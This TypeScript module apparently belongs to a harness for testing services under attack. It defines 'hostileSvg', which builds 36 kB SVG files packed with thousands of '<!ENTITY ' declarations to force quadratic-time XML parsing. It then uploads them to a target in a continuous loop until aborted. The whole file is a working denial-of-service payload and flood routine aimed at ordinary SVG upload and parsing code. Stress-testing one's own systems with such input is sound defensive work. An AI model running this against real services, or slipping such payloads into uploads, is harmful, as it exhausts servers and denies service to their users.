// A drawing that an organiser is handed: 36 kB of declarations that never end.
import { type Attack, createTally, timeoutSignal } from './attack.ts';
import { sendAsset } from './send.ts';

const DECLARATION = '<!ENTITY ';
const START = '<?xml version="1.0"?>';

/** A parser that looks at all of a declaration again for each letter of it takes quadratic time. */
const DRAWINGS = [
  DECLARATION.repeat(4000),
  START + DECLARATION.repeat(4000),
  `${START}<!DOCTYPE svg [${DECLARATION.repeat(4000)}`,
  `${START}<!DOCTYPE svg []>${DECLARATION.repeat(4000)}`,
  `<!${'x'.repeat(36_000)}`,
];

export const hostileSvg: Attack = {
  name: 'hostile-svg',
  title: 'SVGs of 36 kB with thousands of <!ENTITY',
  async prepare(target) {
    return async (signal) => {
      const tally = createTally();
      let sent = 0;
      while (!signal.aborted) {
        const text = DRAWINGS[sent % DRAWINGS.length] ?? '';
        const filename = `drawing-${sent++}.svg`;
        tally.add(await sendAsset(target, filename, Buffer.from(text), timeoutSignal()));
      }
      return { answers: tally.answers, figures: { sent } };
    };
  },
};
